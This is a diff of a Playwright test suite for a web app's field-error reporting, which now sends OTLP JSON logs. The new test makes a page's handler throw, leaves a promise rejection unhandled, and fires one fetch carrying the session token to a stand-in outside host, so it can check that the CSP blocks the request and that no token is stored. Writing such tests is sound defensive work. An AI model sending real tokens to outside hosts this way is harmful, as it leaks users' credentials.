@@ -1,6 +1,7 @@
 /**
- * Field reports end to end (ADR 0021): a page whose payload has a field of the wrong type, left by
- * the borrower, shows up on `/_field` with its vitals; a build without a report URL sends nothing. Each
+ * Field reports end to end (ADR 0021, as OTLP/HTTP JSON logs ADR 0034): a page whose payload has a field
+ * of the wrong type, left by the borrower, shows up on `/_field` with its vitals; a handler's exception and
+ * an unhandled rejection each once under client errors; a build without a report URL sends nothing. Each
  * test runs its own reference server (development routes on, a scratch database), so `/_field` holds only
  * what the test's own page views sent.
  */
@@ -10,10 +11,20 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
 import { FIELD_QUEUE_KEY as QUEUE_KEY, FIELD_REPORT_PATH } from '../../shared/api/contract/field';
+import type { OtlpLogsRequest } from '../../shared/api/contract/field';
 import { DEMO_TOKEN } from '../../server/modules/core';
 import { startScratchServer } from '../../server/start';
 import type { RunningServer } from '../../server/start';
-import { expect, test } from './fixtures';
+import { expect, expectAxeClean, test } from './fixtures';
+
+/** The suite's test without its failure on an uncaught page error: for the test that makes them on purpose. */
+const withErrors = test.extend({
+  // Playwright reads a fixture's needs from its first parameter's pattern, which must be one: none here.
+  // eslint-disable-next-line no-empty-pattern
+  pageErrors: async ({}, use) => {
+    await use();
+  },
+});
 
 const CALL = '/states/v3/personal-center/contact-kf-info';
 
@@ -50,8 +61,18 @@ test.describe('field reports', () => {
     // collector has nothing, the origin's storage has the report.
     await page.goto('about:blank');
     await page.goto(`${demo.origin}/_field`);
-    const queued = await page.evaluate((key) => localStorage.getItem(key), QUEUE_KEY);
-    expect(JSON.parse(queued ?? '[]')).toMatchObject([{ entry: 'customer-service', reads: [{ field: 'smWa' }] }]);
+    const queued = JSON.parse((await page.evaluate((key) => localStorage.getItem(key), QUEUE_KEY)) ?? '[]') as {
+      body: string;
+    }[];
+    expect(queued).toHaveLength(1);
+    // An OTLP logs request: the entry on the resource, the field that could not be read on its own record.
+    const request = JSON.parse(queued[0]!.body) as OtlpLogsRequest;
+    expect(request.resourceLogs[0]!.resource.attributes).toContainEqual({
+      key: 'app.entry',
+      value: { stringValue: 'customer-service' },
+    });
+    expect(request.resourceLogs[0]!.scopeLogs[0]!.logRecords.map((r) => r.eventName)).toContain('app.read_failure');
+    expect(queued[0]!.body).toContain('{"key":"app.read.field","value":{"stringValue":"smWa"}}');
     expect(countIn(demo, 'field_views')).toBe(0);
     // The next screen of ours sends it once that screen is drawn and idle, and empties the queue.
     await page.goto(`${demo.origin}/about-us.html`);
@@ -73,6 +94,66 @@ test.describe('field reports', () => {
     const stored = JSON.stringify(demo.server.db.prepare('SELECT * FROM field_views, field_failures').all());
     expect(stored).not.toContain(DEMO_TOKEN);
   });
+
+  // The page's own errors are what this test makes: the suite's check for uncaught errors is off here.
+  withErrors(
+    'a handler’s exception, an unhandled rejection and a CSP block reach /_field, each once',
+    async ({ page }) => {
+      const thrown: string[] = [];
+      page.on('pageerror', (e) => thrown.push(e.message));
+      await page.goto(`${demo.origin}/customer-service.html?token=${DEMO_TOKEN}`);
+      await expect(page.getByText('support@pesobridge.ph')).toBeVisible();
+      await expect(page.locator('html')).toHaveAttribute('data-field-reports', 'vitals');
+      // A tap whose handler throws, twice; a promise rejected with nobody awaiting it, twice.
+      await page.evaluate(() => {
+        const button = document.createElement('button');
+        button.textContent = 'Broken';
+        button.addEventListener('click', () => {
+          throw new RangeError('Broken handler for 09171234567');
+        });
+        document.body.append(button);
+      });
+      const broken = page.getByRole('button', { name: 'Broken' });
+      await broken.click();
+      await broken.click();
+      for (let i = 0; i < 2; i++) await page.evaluate(() => void Promise.reject(new TypeError('Nobody awaited this')));
+      await expect.poll(() => thrown.length).toBe(4);
+      // A request the page's CSP refuses (connect-src 'self'), with the session in its query.
+      await page.evaluate(
+        (token) => fetch(`https://collector.elsewhere.example/x?token=${token}`).catch(() => undefined),
+        DEMO_TOKEN,
+      );
+      // Left, and sent by the next screen of ours once it is idle.
+      await page.goto(`${demo.origin}/about-us.html`);
+      await expect.poll(() => countIn(demo, 'field_failures')).toBe(3);
+      await page.goto(`${demo.origin}/_field`);
+      const row = (where: string) => page.getByRole('row').filter({ hasText: where });
+      await expect(row('uncaught exception').getByRole('cell')).toHaveText([
+        'customer-service',
+        'uncaught exception',
+        'RangeError',
+        'Broken handler for #',
+        '1',
+      ]);
+      await expect(row('unhandled rejection').getByRole('cell')).toHaveText([
+        'customer-service',
+        'unhandled rejection',
+        'TypeError',
+        'Nobody awaited this',
+        '1',
+      ]);
+      // The directive and the blocked origin only: nothing of the path or the query.
+      await expect(row('blocked by CSP').getByRole('cell')).toHaveText([
+        'customer-service',
+        'blocked by CSP (directive, origin)',
+        'connect-src',
+        'https://collector.elsewhere.example',
+        '1',
+      ]);
+      expect(JSON.stringify(demo.server.db.prepare('SELECT * FROM field_failures').all())).not.toContain(DEMO_TOKEN);
+      await expectAxeClean(page);
+    },
+  );
 
   test.describe('a build without a report URL', () => {
     let dir: string;
